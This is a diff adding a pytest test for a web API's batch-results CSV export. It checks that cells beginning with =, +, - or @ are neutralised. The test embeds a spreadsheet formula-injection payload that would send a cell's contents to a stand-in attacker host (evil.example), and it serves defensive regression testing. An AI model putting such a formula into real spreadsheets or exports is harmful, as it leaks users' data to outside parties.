@@ -152,3 +152,24 @@ def test_a_bodiless_staff_post_needs_no_content_type(
 def test_a_body_that_is_not_json_is_still_a_415(client: Any, bearer: Any) -> None:
     response = client.post(f"{URL}/search", data="q=Doe", headers=bearer)
     assert response.status_code == 415
+
+
+def test_batch_results_csv_never_starts_a_cell_with_a_formula(
+    client: Any, bearer: dict[str, str]
+) -> None:
+    """An uploader's unknown field name comes back in the row's errors: as text only."""
+    import csv
+    import io
+
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1)'
+    from tests.fakes.submissions import valid_body
+
+    item = valid_body() | {formula: "x"}  # valid but for that field: its error comes first
+    created = client.post("/api/v1/batches", json={"items": [item]}, headers=bearer)
+    assert created.status_code == 202, created.get_json()
+    results = client.get(f"/api/v1/batches/{created.get_json()['id']}/results.csv", headers=bearer)
+    cells = [
+        cell for row in csv.reader(io.StringIO(results.get_data(as_text=True))) for cell in row
+    ]
+    assert any(formula in cell for cell in cells)
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
